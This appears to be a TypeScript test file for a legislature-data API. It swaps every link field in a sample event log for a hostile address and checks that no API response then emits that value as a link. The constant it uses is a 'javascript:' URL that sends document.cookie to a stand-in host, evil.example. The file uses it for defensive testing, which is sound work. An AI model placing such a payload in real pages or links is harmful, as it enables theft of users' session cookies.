import { beforeAll, describe, expect, it } from 'vitest'
import type { ApiDocument } from '../../api/openapi/types.ts'
import { verify } from '../../projections/verify/verify.ts'
import type { LogEvent } from '../../schemas/log/event.ts'
import { goldenLog } from '../legislature/golden-log.ts'
import { encodeLog } from '../projections/support/log-source.ts'
import { produce } from '../projections/support/produce.ts'
import { createSetting, project, type Setting } from '../projections/support/projecting.ts'
import { collectionsOf } from '../support/api/every-collection.ts'
import { createTestApi, type TestApi } from '../support/api/test-api.ts'
import { createTestTopics } from '../support/log/topics.ts'

const HOSTILE = "javascript:fetch('https://evil.example/'+document.cookie)"
const LINKS = new Set(['url', 'image', 'html_url', 'pdf_url', 'text_url', 'comment_url'])
/** Values of a source outside our fields have no fixed form, so no reader treats them as links. */
const UNKNOWN = new Set(['extras'])

type Member = readonly [name: string, value: unknown]

/** The same body with a hostile address in each place for an address. */
function poisoned(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(poisoned)
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(
    Object.entries(value).map(([name, member]): Member => {
      if (UNKNOWN.has(name)) return [name, member]
      if (LINKS.has(name)) return [name, HOSTILE]
      if (name === 'sources' || (name === 'links' && isNoted(value)))
        return [name, [{ url: HOSTILE, note: 'a note' }]]
      if (name === 'links') return [name, [{ url: HOSTILE, media_type: 'text/html' }]]
      if (name === 'citations') return [name, 'prompt_version' in value ? member : [CITATION]]
      return [name, poisoned(member)]
    }),
  )
}
/** Links of people and committees have notes, and links of files have media types. */
const isNoted = (owner: object): boolean => 'roles' in owner || 'memberships' in owner

/** A bill cites laws. A derivation cites words of the bill, without an address. */
const CITATION = {
  publication: 'Session Laws',
  citation: '1',
  citation_type: 'act',
  effective: null,
  expires: null,
  url: HOSTILE,
}

/** Paths of all members with the hostile address, except those that mark it as a non-link. */
function linksIn(value: unknown, path: readonly string[] = []): string[] {
  if (typeof value === 'string')
    return value === HOSTILE && !path.includes('invalid_url') ? [path.join('.')] : []
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([name, member]) =>
    UNKNOWN.has(name) ? [] : linksIn(member, [...path, name]),
  )
}

let setting: Setting
let settings: Setting['settings']
let api: TestApi

beforeAll(async () => {
  setting = await createSetting()
  settings = await createTestTopics(setting.settings)
  const log = goldenLog().map(({ event, ...place }) => ({
    ...place,
    event: { ...event, body: poisoned(event.body) } as LogEvent,
  }))
  const records = await encodeLog(log, setting.codec)
  await produce(settings, setting.database, records)
  await project(setting, records)
  await setting.database.query("UPDATE control.read_schema SET watermark = '2027-01-01'")
  const test = { ...setting, url: settings.database_url, drop: async () => {} }
  api = await createTestApi(test, { settings: { rate_limits: '0' } })
})

describe('an address that is not a web address', () => {
  it('is stored as the log and the rule say, and an independent fold agrees', async () => {
    const { database, read_schema } = setting
    expect(await verify({ database, settings, read_schema })).toMatchObject({
      is_equal: true,
      differences: [],
      parked: [],
    })
  })

  it('is a text in every answer of the API, and never a link', async () => {
    const document = (await api.app.inject('/v1/openapi.json')).json<ApiDocument>()
    const emitted = new Set<string>()
    const read = async (path: string) => {
      const answer = await api.get(path)
      if (answer.statusCode === 404) return undefined
      expect(answer.statusCode, `${path}: ${answer.body}`).toBe(200)
      expect({ path, links: linksIn(answer.json()) }).toEqual({ path, links: [] })
      if (answer.body.includes('"invalid_url":')) emitted.add(path.split('/')[2]!.split('?')[0]!)
      return answer.json<{ data?: { id: number | string }[] }>()
    }
    const collections = collectionsOf(document).filter(
      ({ path }) => !/webhook|follows|tokens|leads|users|invitations|audit-log/.test(path),
    )
    for (const { path } of collections.filter((each) => !each.path.includes('{'))) {
      const all =
        document.paths?.[path]?.get?.parameters?.some(({ name }) => name === 'q') && path === '/v1/search'
      const page = await read(`${path}?limit=200${all ? '&q=act' : ''}`)
      for (const { id } of page?.data ?? []) {
        if (document.paths?.[`${path}/{id}`] !== undefined) await read(`${path}/${id}`)
        for (const part of collections.filter((each) => each.path.startsWith(`${path}/{id}/`)))
          await read(part.path.replace('{id}', String(id)))
      }
    }
    await read('/v1/bills?limit=200&include=sponsors,actions,votes,versions,documents,committees,details')
    await read('/v1/legislators?limit=200&include=details')
    expect([...emitted].sort()).toEqual(
      expect.arrayContaining(['bills', 'committees', 'jurisdictions', 'legislators', 'regulations', 'votes']),
    )
  })
})
